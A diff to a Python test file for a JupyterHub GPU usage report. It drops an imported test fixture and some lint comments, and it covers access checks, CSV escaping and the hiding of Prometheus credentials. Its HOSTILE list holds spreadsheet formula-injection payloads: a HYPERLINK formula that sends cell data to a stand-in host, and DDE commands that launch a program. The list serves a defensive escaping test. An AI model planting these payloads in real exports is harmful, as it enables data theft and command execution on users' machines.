@@ -22,7 +22,7 @@ from jupyterhub_gpu.usage import telemetry
 from jupyterhub_gpu.usage.page import FORMULA_START, figures, report, to_csv, to_html
 from jupyterhub_gpu.usage.telemetry import Telemetry
 
-from .test_usage_page import ROWS, WINDOW, row, spec  # noqa: F401 - spec is a fixture
+from .test_usage_page import ROWS, WINDOW, row
 
 
 def arguments(query: str) -> dict[str, list[bytes]]:
@@ -70,7 +70,7 @@ def test_a_bad_query_is_refused_with_the_reason(query, match):
     assert len(str(e.value)) < 400  # the message quotes a bounded part of the input
 
 
-def test_a_lead_asking_for_a_user_outside_their_team_is_refused(spec):  # noqa: F811
+def test_a_lead_asking_for_a_user_outside_their_team_is_refused(spec):
     lead = Viewer.of({"name": "lee", "groups": ["a-leads"]}, spec)
     assert [u.key for u in visible(ROWS, lead, Selection(user="ann"))] == ["1"]
     for selection in (Selection(user="bob"), Selection(team="a", user="bob"),
@@ -86,7 +86,7 @@ HOSTILE = ["=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "+1+cmd|' /C calc'
            "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
 
 
-def test_csv_cells_never_start_a_formula_and_numbers_are_kept(spec):  # noqa: F811
+def test_csv_cells_never_start_a_formula_and_numbers_are_kept(spec):
     rows = [row(str(i), team=name, user=name, profile=name, server=name, kind=Kind.JOB)
             for i, name in enumerate(HOSTILE)]
     r = report(rows, Viewer("root", admin=True), Selection(), WINDOW, 3, spec,
@@ -178,7 +178,7 @@ def _page(spec, shown: Telemetry) -> str:
                    "usage.csv")
 
 
-async def test_credentials_reach_prometheus_and_serve_the_page(spec):  # noqa: F811
+async def test_credentials_reach_prometheus_and_serve_the_page(spec):
     prometheus = Prometheus("auth")
     async with prometheus as address:
         shown = await telemetry.fetch(f"http://prom-reader:s3cret@{address}/prom/?a=t0k3n",
@@ -198,7 +198,7 @@ async def test_credentials_reach_prometheus_and_serve_the_page(spec):  # noqa: F
     ("auth", "http://prom-reader:s3cret@127.0.0.1:1/prom?token=t0k3n",
      "ClientConnectorError"),
 ])
-async def test_prometheus_secrets_are_never_shown_or_logged(spec, caplog, mode, url,  # noqa: F811
+async def test_prometheus_secrets_are_never_shown_or_logged(spec, caplog, mode, url,
                                                             why):
     async with Prometheus(mode) as address:
         with caplog.at_level(logging.DEBUG):
